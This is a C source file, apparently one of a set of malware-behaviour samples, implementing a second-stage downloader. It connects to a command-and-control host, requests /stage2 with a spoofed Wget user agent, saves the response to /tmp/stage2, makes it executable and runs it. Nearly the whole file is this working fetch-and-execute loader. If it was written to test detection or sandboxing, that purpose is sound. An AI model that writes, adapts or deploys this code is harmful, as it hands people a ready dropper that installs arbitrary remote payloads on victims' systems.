/*
 * Second stage (issue 6): HTTP GET of /stage2 from the C2 name, written to
 * /tmp/stage2, chmod 0755, executed. Usage: second_stage_downloader [C2-NAME [PATH]].
 */
#include "common.h"

#define STAGE2_PATH "/tmp/stage2"
#define STAGE2_MAX (16L << 20)

static int run_second_stage_downloader(int argc, char **argv)
{
    const char *name = argc >= 2 && argv[1][0] != '-' ? argv[1] : SAMPLE_C2_NAME;
    const char *url = argc >= 3 ? argv[2] : "/stage2";
    char ip[64], req[512], head[4096], line[256];
    size_t hlen = 0;
    long body = 0, want = -1;
    const char *cl, *eoh = NULL;
    int fd, out;
    resolve_c2(name, ip, sizeof ip);
    fd = tcp_connect(ip, 80, 3000);
    if (check("connect C2:80", fd) < 0)
        return 1;
    snprintf(req, sizeof req,
             "GET %s HTTP/1.0\r\nHost: %s\r\nUser-Agent: Wget/1.21\r\nAccept: */*\r\n\r\n", url,
             name);
    if (check("http GET stage2", send_str(fd, req)) < 0)
        return 1;
    /* Headers first (at most 4 KiB), with a 5 s bound on the whole download. */
    while (hlen + 1 < sizeof head && !eoh) {
        long n = recv_for(fd, head + hlen, sizeof head - hlen, 5000);
        if (n <= 0)
            break;
        hlen += (size_t)n;
        head[hlen] = '\0';
        eoh = strstr(head, "\r\n\r\n");
    }
    say("http response", "%s", first_line(head, line, sizeof line));
    if (!eoh || strncmp(head, "HTTP/1.", 7) != 0 || strncmp(head + 9, "200", 3) != 0) {
        say("download", "fail no 200 response");
        close(fd);
        return 1;
    }
    cl = strstr(head, "Content-Length:");
    if (!cl)
        cl = strstr(head, "content-length:");
    if (cl && cl < eoh)
        want = strtol(cl + 15, NULL, 10);
    out = open(STAGE2_PATH, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (check("open(" STAGE2_PATH ")", out) < 0) {
        close(fd);
        return 1;
    }
    eoh += 4;
    if (hlen > (size_t)(eoh - head)) {
        size_t first = hlen - (size_t)(eoh - head);
        if (write(out, eoh, first) != (ssize_t)first)
            check("write(" STAGE2_PATH ")", -1);
        body += (long)first;
    }
    {
        long end = now_ms() + 5000;
        char buf[16384];
        while ((want < 0 || body < want) && body < STAGE2_MAX && now_ms() < end) {
            long n = recv_for(fd, buf, sizeof buf, end - now_ms());
            if (n <= 0)
                break;
            if (write(out, buf, (size_t)n) != n) {
                check("write(" STAGE2_PATH ")", -1);
                break;
            }
            body += n;
        }
    }
    close(out);
    close(fd);
    say("download", "ok %ld bytes to " STAGE2_PATH, body);
    check("chmod(" STAGE2_PATH ", 0755)", chmod(STAGE2_PATH, 0755));
    {
        char *args[] = {STAGE2_PATH, NULL};
        fflush(stdout);
        execv(STAGE2_PATH, args);
        check("execv(" STAGE2_PATH ")", -1);
    }
    return 1;
}
SAMPLE_MAIN(second_stage_downloader)
